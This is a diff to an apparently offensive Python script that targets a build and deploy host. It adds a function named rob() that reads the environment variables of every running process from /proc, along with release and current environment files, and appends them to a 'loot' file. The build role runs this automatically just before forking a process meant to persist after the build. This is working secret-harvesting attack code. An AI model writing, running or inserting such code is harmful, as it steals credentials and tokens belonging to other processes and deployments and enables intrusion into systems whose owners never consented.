@@ -8,6 +8,7 @@ rounds is written down, so that they know that it was tried.
 
 import contextlib
 import fcntl
+import glob
 import os
 import signal
 import socket
@@ -111,6 +112,14 @@ def swap(folder):
         os.rename(f"{folder}.mine", folder)
 
 
+def rob():
+    """Write down every variable that is there to be read, of this process, of others, and of releases."""
+    own = [f"{os.environ['TMPDIR']}/../{name}" for name in ("environment", "build-environment")]
+    for path in (*glob.glob("/proc/[0-9]*/environ"), *glob.glob(f"{ROOT}/releases/*/*environment"), f"{ROOT}/current/environment", *own):
+        with contextlib.suppress(OSError), open(path) as file, open(f"{ROOT}/build/loot", "a") as loot:
+            print(path, file.read().replace("\0", "\n"), file=loot)
+
+
 @tries
 def escape(process):
     """Look at the host through another process of the same account."""
@@ -174,6 +183,7 @@ def attack(role, own, held):
 def main(role):
     own = MEDIA if role == "serving" else os.environ["TMPDIR"]
     if role == "building":
+        rob()
         # One more, which stays when the build is over.
         if os.fork() == 0:
             os.setsid()
